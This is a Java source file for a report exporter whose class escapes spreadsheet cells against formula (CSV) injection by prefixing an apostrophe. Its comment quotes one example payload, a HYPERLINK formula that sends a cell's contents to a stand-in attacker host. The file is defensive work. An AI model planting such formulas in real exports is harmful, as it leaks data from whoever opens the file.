package org.mizan.reports.boundary;

/**
 * Formula injection (CSV injection): a spreadsheet evaluates a cell that begins with {@code = + - @}, and
 * also one that begins with a tab or carriage return, which some programs strip before looking again. A
 * name or locality typed as {@code =HYPERLINK("http://evil/?"&A1)} would otherwise run on the computer of
 * whoever opens the export. Such a cell gets a leading apostrophe — the spreadsheet convention for "this
 * is text" — and is otherwise left exactly as it was, so nothing is lost or silently changed.
 *
 * <p>Every text cell is treated alike, with no exceptions by column: no legitimate value of these columns
 * begins with one of those characters (dates are ISO or {@code ~2019}, counts are never negative, codes are
 * letters), so a uniform rule costs nothing and cannot be forgotten for a new column. The JSON export is
 * data for programs, not a spreadsheet, and keeps every value raw.
 */
final class SpreadsheetCells {

    private static final String TRIGGERS = "=+-@\t\r";

    private SpreadsheetCells() {
    }

    /** The value, with an apostrophe before it when a spreadsheet would read it as a formula; null is empty. */
    static String neutralise(String value) {
        if (value == null || value.isEmpty()) {
            return "";
        }
        return TRIGGERS.indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
    }
}
